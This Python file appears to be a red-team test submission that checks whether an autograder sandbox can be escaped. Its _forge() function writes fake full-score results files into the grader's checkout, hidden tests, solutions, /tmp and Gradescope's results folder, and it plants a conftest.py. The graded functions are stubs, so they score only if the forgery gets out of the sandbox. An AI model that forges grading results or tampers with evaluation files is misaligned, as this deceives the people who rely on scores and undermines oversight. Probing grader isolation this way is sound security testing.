"""Attack: write forged results files wherever a grader might read them.

Next to the submission and in its parents, in the working folder and its
parents, the temp dir, /tmp, the checkout (found through the autograder
package), its hidden tests and solutions, the batch's output location and
Gradescope's. If any write outside the worker's own folder succeeds, affine
comes back right: the score then exceeds the honest 0.
"""

import os
import tempfile
from pathlib import Path

import torch

import autograder

MARK = "FORGED-BY-ATTACK"
FORGED = f'{{"score": 12, "max_score": 12, "output": "{MARK}", "tests": []}}'
OUT = Path("/tmp/autograder-attacks-out")  # where the attack batch writes its reports


def _forge() -> bool:  # ATTACK
    work = Path.cwd().resolve()
    submission = Path(__file__).resolve().parent
    checkout = Path(autograder.__file__).resolve().parents[1]
    folders = [work, *work.parents, submission, *submission.parents, Path(tempfile.gettempdir()),
               Path("/tmp"), Path(os.path.expanduser("~")), checkout, checkout.parent,
               checkout / "tests" / "hidden" / "01", checkout / "solutions" / "01",
               checkout / "autograder", OUT, Path("/autograder/results")]
    escaped = False
    for folder in folders:
        for name in ("FORGED_RESULTS.json", "results.json", "forge_results.json"):
            target = folder / name
            try:
                folder.mkdir(parents=True, exist_ok=True)
                with open(target, "x") as forged:  # never overwrite an existing file
                    forged.write(FORGED)
            except OSError:
                continue
            escaped |= work not in target.resolve().parents
    try:  # a conftest.py the next grade of this assignment would load
        with open(checkout / "tests" / "hidden" / "01" / "conftest.py", "x") as forged:
            forged.write(f"# {MARK}\n")
        escaped = True
    except OSError:
        pass
    return escaped


_ESCAPED = _forge()


def linear_combination(xs, weights):
    _forge()
    return torch.zeros(())


def affine(x, W, b):
    return x @ W.T + b if _ESCAPED or _forge() else torch.zeros(())


def derivative(f, x0):
    return 0.0


def select_device(prefer="auto"):
    return torch.device("meta")


def make_loader(x, y, batch_size, shuffle=False, seed=None):
    return None


def train_step(model, loss_fn, optimizer, xb, yb):
    return 0.0
